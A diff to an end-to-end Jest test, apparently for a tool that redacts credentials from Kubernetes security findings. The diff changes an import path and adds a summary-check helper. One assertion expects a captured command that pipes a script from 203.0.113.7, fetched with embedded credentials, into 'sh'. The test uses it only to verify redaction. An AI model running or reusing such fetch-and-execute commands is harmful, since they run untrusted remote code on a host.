@@ -10,7 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { Summary } from '../src/core/summary.ts';
+import type { Summary } from '../src/core/summary/document.ts';
 import { startFakeKubeApi, type FakeKubeApi } from './fakes/kube-api-server.ts';
 import { startFakeLogging, type FakeLogging } from './fakes/logging-grpc-server.ts';
 import { startFakeStorage, type FakeStorage } from './fakes/storage-json-server.ts';
@@ -20,6 +20,7 @@ import { notificationV1 } from './support/fixtures.ts';
 import { CLUSTER, seed } from './support/kube-seed.ts';
 import { pubsubRest, type PulledMessage } from './support/pubsub-rest.ts';
 import { startWebhookRecorder, type WebhookRecorder } from './support/webhook-recorder.ts';
+import { noteSummary } from './support/summary-check.ts';
 
 const PROJECT = 'test-project';
 const COLLECTION = 'redaction-e2e';
@@ -200,7 +201,7 @@ d('no credential leaves the finding (functions-framework + emulators + Kubernete
 
     // What happened, so that "no secret anywhere" is not true of empty payloads.
     expect(pulled).toHaveLength(1);
-    const summary = JSON.parse(pulled[0]!.data) as Summary;
+    const summary = noteSummary(JSON.parse(pulled[0]!.data) as Summary, 'ops topic message');
     expect(summary.actions.map((a) => `${a.type}:${a.status}`)).toEqual(['label-pod:done', 'capture-process-list:done']);
     expect(summary.processes.child?.args[2]).toContain('Authorization: Bearer <redacted>');
     expect(summary.processes.child?.args[2]).toContain('https://deploy:<redacted>@203.0.113.7/x.sh | sh');
